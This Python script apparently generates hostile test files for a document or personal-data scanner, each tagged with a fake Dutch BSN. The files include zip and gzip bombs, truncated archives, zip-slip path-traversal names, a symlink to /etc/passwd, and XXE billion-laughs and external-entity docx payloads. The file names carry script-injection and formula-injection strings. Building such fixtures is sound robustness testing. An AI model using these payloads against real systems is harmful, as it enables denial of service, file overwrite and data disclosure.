#!/usr/bin/env python3
"""hostile.py FOLDER: makes documents that harm those who read them without limits."""
import base64
import gzip
import io
import struct
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

FOLDER = Path(sys.argv[1])
BSN = "BSN: 999999990"

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
    'package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def paragraph(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx(name, body, doctype=""):
    """A document whose body is given as it is."""
    with zipfile.ZipFile(FOLDER / name, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", TYPES)
        package.writestr("_rels/.rels", RELATIONS)
        package.writestr(
            "word/document.xml",
            f'<?xml version="1.0"?>{doctype}<w:document {WORD}><w:body>{body}</w:body></w:document>',
        )


def archive(entries):
    """The bytes of a zip with these entries."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in entries:
            package.writestr(name, data)
    return content.getvalue()


def zeros():
    """Half a gigabyte of digits in two megabytes."""
    with zipfile.ZipFile(FOLDER / "zeros.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        package.writestr("before.txt", BSN)
        with package.open("zeros.txt", "w", force_zip64=True) as entry:
            block = b"0" * (16 << 20)
            for _ in range(32):
                entry.write(block)


def nested():
    """Sixteen archives in each of sixteen, five levels deep: a million files at the bottom."""
    content = b"0" * 1000
    for _ in range(5):
        content = archive([(f"{number}.zip", content) for number in range(16)])
    (FOLDER / "nested.zip").write_bytes(content)


def overlapping():
    """Ten thousand entries that all are the same bytes."""
    data = zlib.compress(b"1" * (1 << 20), 9)[2:-4]
    check = zlib.crc32(b"1" * (1 << 20))
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, check, len(data), 1 << 20, 1, 0) + b"a" + data
    entry = struct.pack(
        "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, check, len(data), 1 << 20, 1, 0, 0,
        0, 0, 0, 0) + b"a"
    count = 10_000
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(entry) * count, len(local), 0)
    (FOLDER / "overlapping.zip").write_bytes(local + entry * count + end)


def deep():
    """Thirty layers of gzip around a number."""
    content = BSN.encode()
    for _ in range(30):
        content = gzip.compress(content)
    (FOLDER / "deep.gz").write_bytes(content)


def encoded():
    """The same layers, written out in a text beside a number."""
    layers = base64.b64encode((FOLDER / "deep.gz").read_bytes()).decode()
    (FOLDER / "encoded.xml").write_text(
        f"<bericht><bsn>{BSN[5:]}</bsn><inhoud>{layers}</inhoud></bericht>")


def truncated():
    """Documents that break off in the middle."""
    text = "".join(f"{BSN} en nog wat tekst {number}\n" for number in range(20_000)).encode()
    whole = archive([("a.txt", text), ("b.txt", text)])
    (FOLDER / "truncated.zip").write_bytes(whole[: len(whole) // 2])
    packed = gzip.compress(text)
    (FOLDER / "truncated.gz").write_bytes(packed[: len(packed) // 2])
    docx("whole.docx", paragraph(BSN) * 2000)
    whole = (FOLDER / "whole.docx").read_bytes()
    (FOLDER / "truncated.docx").write_bytes(whole[: len(whole) * 2 // 3])


def slipping():
    """Names that lead out of every folder, move a terminal or are a formula."""
    names = [
        "../../../../tmp/slipped-1", "/tmp/slipped-2", "..\\..\\slipped-3", "nul\0name",
        "<script>alert(1)</script>.txt", '=HYPERLINK("http://evil.example")', "esc\x1b[31m.txt",
    ]
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as package:
        for name in names:
            entry = zipfile.ZipInfo("x" * len(name))
            package.writestr(entry, BSN)
    data = content.getvalue()
    for name in names:
        data = data.replace(b"x" * len(name.encode()), name.encode(), 2)
    (FOLDER / "slip.zip").write_bytes(data)
    with tarfile.open(FOLDER / "slip.tar", "w") as tar:
        for name in ["../../../../tmp/slipped-4", "/tmp/slipped-5"]:
            entry = tarfile.TarInfo(name)
            entry.size = len(BSN)
            tar.addfile(entry, io.BytesIO(BSN.encode()))
        for kind, name in [(tarfile.SYMTYPE, "link"), (tarfile.CHRTYPE, "device"),
                           (tarfile.FIFOTYPE, "fifo")]:
            entry = tarfile.TarInfo(name)
            entry.type = kind
            entry.linkname = "/etc/passwd"
            tar.addfile(entry)


def entities(port):
    """Entities that grow, and that lead outside."""
    laughs = "".join(
        f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 20))
    docx(
        "laughs.docx", paragraph("&l19;") + paragraph(BSN),
        f'<!DOCTYPE w [<!ENTITY l0 "BSN 111222333 ">{laughs}]>')
    docx(
        "outside.docx", paragraph("&x;") + paragraph(BSN),
        f'<!DOCTYPE w [<!ENTITY x SYSTEM "http://127.0.0.1:{port}/x">'
        f'<!ENTITY % p SYSTEM "http://127.0.0.1:{port}/p.dtd"> %p;]>')
    docx("elements.docx", "<w:p>" * 200_000 + paragraph(BSN))


def large():
    """A member of a hundred megabytes that must be held in memory."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_STORED) as package:
        for name in ["a.txt", "b.txt"]:
            package.writestr(name, f"{BSN}\n" + "tekst " * (8 << 20))
    # Stored inside, packed outside: the inner archive is unpacked to memory.
    (FOLDER / "large.zip").write_bytes(
        archive([("inner.zip", content.getvalue()), ("after.txt", BSN)]))


zeros()
nested()
overlapping()
deep()
encoded()
truncated()
slipping()
entities(sys.argv[2] if len(sys.argv) > 2 else "9")
large()
